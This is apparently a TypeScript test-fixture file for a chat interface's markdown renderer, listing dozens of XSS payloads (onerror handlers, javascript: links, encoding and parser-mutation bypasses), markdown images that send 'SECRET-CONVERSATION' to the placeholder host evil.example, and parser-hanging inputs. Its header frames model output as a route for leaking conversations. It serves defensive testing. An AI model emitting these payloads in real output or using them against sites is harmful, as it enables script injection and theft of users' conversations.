/**
 * Text a model or a web page might produce to run script, leak the conversation, or take over the
 * page once rendered. Every payload calls `alert()` or loads from `evil.example`, so a test can
 * tell from one hook and the request log whether anything got through.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click]( javascript:alert(1))',
  '[click](java&#x09;script:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '[click](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '[a][r]\n\n[r]: javascript:alert(1)',
  '[a](https://ok.example "t\\" onmouseover=\\"alert(1))',
  '![x](x" onerror="alert(1))',
  '![x](javascript:alert(1))',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<form action=https://evil.example/steal><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="https://ok.example" target="_blank" onclick="alert(1)">x</a>',
  '<div style="background:url(https://evil.example/bg.png)">x</div>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  '[1]<img src=x onerror=alert(1)>[2]',
  '<a id="source-1" href="#">[1]</a><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<<img src=x onerror=alert(1)>',
];

/** Markdown images that would send the conversation to another host if loaded (SECURITY 7). */
export const EXFILTRATION_PAYLOADS: readonly string[] = [
  '![](https://evil.example/?d=SECRET-CONVERSATION)',
  '![logo](https://evil.example/pixel.png "t")',
  '![a][img]\n\n[img]: https://evil.example/ref.png?d=SECRET',
  '<img src="https://evil.example/raw.png?d=SECRET">',
  '[![badge](https://evil.example/badge.svg)](https://ok.example)',
];

/** Inputs that made markdown parsers slow or recursive in the past: each must render, not hang. */
export const PATHOLOGICAL_MARKDOWN: readonly string[] = [
  '['.repeat(20_000) + 'x',
  '*'.repeat(20_000) + 'a',
  '_a'.repeat(10_000),
  '`'.repeat(10_000),
  '<'.repeat(20_000) + 'img',
  'x'.repeat(500_000),
];

/** Deep nesting: a model stuck repeating `>` or `- ` produces this; each must render, not throw. */
export const DEEPLY_NESTED_MARKDOWN: readonly string[] = [
  '>'.repeat(5_000) + ' deep quote',
  '- '.repeat(2_000) + 'item',
];
